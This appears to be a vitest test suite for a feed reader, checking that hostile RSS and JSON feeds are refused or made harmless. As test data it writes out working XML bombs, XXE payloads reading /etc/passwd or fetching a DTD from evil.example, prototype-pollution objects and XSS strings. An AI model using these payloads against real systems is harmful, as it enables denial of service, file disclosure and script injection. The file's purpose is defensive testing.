import { describe, expect, it, test } from 'vitest';
import { expectHarmless, read } from '../testing/read-hostile.ts';
import { rssWith } from './testing/example-feeds.ts';

const title = (text: string) => rssWith(`<item><title>${text}</title></item>`);

describe('an attack', () => {
  test.each([
    ['of a flood of 200,000 “<”', title('<'.repeat(200_000)), '“<” in a row'],
    [
      'of a flood of 200,000 “<” that nothing ends',
      `<rss version="2.0"><channel><item><title>${'<'.repeat(200_000)}`,
      '“<” in a row',
    ],
    ['of a flood of two million “<” outside of everything', '<'.repeat(2_000_000), '“<” in a row'],
    ['of 200,000 nested tags', '<a>'.repeat(200_000), 'more than 64 deep'],
    ['of 200,000 nested tags in a text', title('<b>'.repeat(200_000)), 'more than 64 deep'],
    ['of 200,000 nested tags in a story', rssWith(`<item>${'<a>'.repeat(200_000)}</item>`), 'more than 64 deep'],
    ['of 100,000 stories', rssWith('<item><title>x</title></item>'.repeat(100_000)), 'more than 5000 stories'],
    [
      'of 100,000 stories in 12 MB',
      rssWith(`<item><title>x</title><description>${'y'.repeat(64)}</description></item>`.repeat(100_000)),
      'more than 5000 stories',
    ],
    [
      'of 100,000 stories that nothing closes',
      `<rss version="2.0"><channel>${'<item><title>x</title>'.repeat(100_000)}`,
      'more than 5000 stories',
    ],
    [
      'of 100,000 stories and titles that nothing closes',
      `<rss version="2.0"><channel>${'<item><title>x'.repeat(100_000)}`,
      'more than 64 deep',
    ],
    [
      'of 280,000 links in a story',
      rssWith(`<item><title>x</title>${'<link/>'.repeat(280_000)}</item>`),
      'more than 60000 elements',
    ],
    [
      'of 400,000 fields of a story in JSON',
      `{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"a"${Array.from({ length: 400_000 }, (_, n) => `,"k${n}":1`).join('')}}]}`,
      'more than 100000 values',
    ],
    [
      'of 100,000 stories in JSON',
      JSON.stringify({
        version: 'https://jsonfeed.org/version/1.1',
        title: 'x',
        items: Array.from({ length: 100_000 }, () => ({ id: 'a' })),
      }),
      'more than 100000 values',
    ],
    ['of deep JSON', `{"a":${'['.repeat(500_000)}`, 'more than 64 deep'],
    ['of an endless tag', `<rss ${'a '.repeat(200_000)}`, 'tag of more than 65536'],
  ])('%s is refused and named', (_, text, words) => {
    const outcome = read(text);
    expectHarmless(outcome);
    expect(outcome).toMatchObject({ refusal: { reason: 'hostile', message: expect.stringContaining(words) } });
  });

  const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');
  test.each([
    ['a billion laughs', `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "lol">${laughs}]>${title('&l9;')}`],
    ['quadratic entities', `<!DOCTYPE rss [<!ENTITY a "${'x'.repeat(100_000)}">]>${title('&a;'.repeat(50_000))}`],
    ['a file from this machine', `<!DOCTYPE rss [<!ENTITY f SYSTEM "file:///etc/passwd">]>${title('&f; x')}`],
    [
      'a parameter entity from elsewhere',
      `<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.example/x.dtd">%p;]>${title('x')}`,
    ],
    ['a million numeric entities', title('&#65;'.repeat(1_000_000))],
    [
      'a million numeric entities in a body',
      rssWith(`<item><description>${'&#x41;'.repeat(1_000_000)}</description></item>`),
    ],
    [
      'a million numeric entities in 2,500 stories',
      rssWith(
        `<item><title>${'&#65;'.repeat(200)}</title><description>${'&#65;'.repeat(200)}</description></item>`.repeat(
          2_500,
        ),
      ),
    ],
    ['4,000 unclosed stories', `<rss version="2.0"><channel>${'<item><title>x</title>'.repeat(4_000)}`],
    ['1,000 “<” in a row, two thousand times', title(`${'<'.repeat(1_000)} `.repeat(2_000))],
    ['unclosed comments', rssWith('<!-- '.repeat(400_000))],
    ['unclosed literals', title('<![CDATA['.repeat(200_000))],
    ['unclosed instructions', rssWith('<?x '.repeat(400_000))],
    ['unclosed quotes', rssWith('<item a="><title>x</title></item>'.repeat(2_000))],
    ['quotes of two kinds, never closed', rssWith('<a \'<a "'.repeat(200_000))],
    [
      'a hundred thousand attributes',
      rssWith(
        `<item ${Array.from({ length: 5_000 }, (_, n) => `a${n}="x"`).join(' ')}><title>x</title></item>`.repeat(20),
      ),
    ],
    [
      'namespaces without end',
      `<rss ${Array.from({ length: 3_000 }, (_, n) => `xmlns:a${n}="x"`).join(' ')} version="2.0"><channel/></rss>`,
    ],
    ['brackets in a name', rssWith(`<item><title>x</title><author>${'('.repeat(200_000)}</author></item>`)],
    [
      'a prototype as an element',
      rssWith(
        '<__proto__><polluted>1</polluted></__proto__><constructor/><item><title>x</title><__proto__>y</__proto__></item>',
      ),
    ],
    [
      'a prototype in JSON',
      '{"version":"https://jsonfeed.org/version/1.1","title":"x","__proto__":{"polluted":1},"items":[{"id":"a","title":"t","__proto__":{"polluted":1}}]}',
    ],
    ['white space', rssWith(' '.repeat(2_000_000))],
    ['open tags in a text', title(`${'<a '.repeat(300_000)}>`)],
    ['a text of megabytes', title('word '.repeat(800_000))],
    ['half an entity, over and over', title('&am'.repeat(500_000))],
    ['a version without end', `<rss version${' '.repeat(60_000)}><channel/></rss>`],
  ])('by %s does no harm', (_, text) => {
    expectHarmless(read(text));
    expect(Object.prototype).not.toHaveProperty('polluted');
  });

  it('in markup, links and signs never reaches a story', () => {
    const outcome = read(
      rssWith(`<item><title><![CDATA[<img src=x onerror=alert(1)>A title]]></title><link>javascript:alert(1)</link>
        <description>&lt;script&gt;alert(1)&lt;/script&gt;&lt;svg/onload=alert(1)&gt;Words &#x202e;txt.exe</description></item>`),
    );
    expectHarmless(outcome);
    expect(outcome).toMatchObject({ feed: { stories: [{ title: 'A title' }] } });
  });
});

describe('a feed longer than 2 MB', () => {
  it('gives the stories at its beginning', () => {
    const item = (n: number) =>
      `<item><guid>${n}</guid><title>Story ${n}</title><description>${'word '.repeat(400)}</description></item>`;
    const outcome = read(rssWith(Array.from({ length: 2_000 }, (_, n) => item(n)).join('')));
    expectHarmless(outcome);
    if ('refusal' in outcome) throw outcome.refusal;
    expect(outcome.feed.stories.length).toBeGreaterThan(900);
    expect(outcome.feed.stories.length).toBeLessThan(1_000);
    expect(outcome.feed.stories.every(({ title }, n) => title === `Story ${n}`)).toBe(true);
  });
});
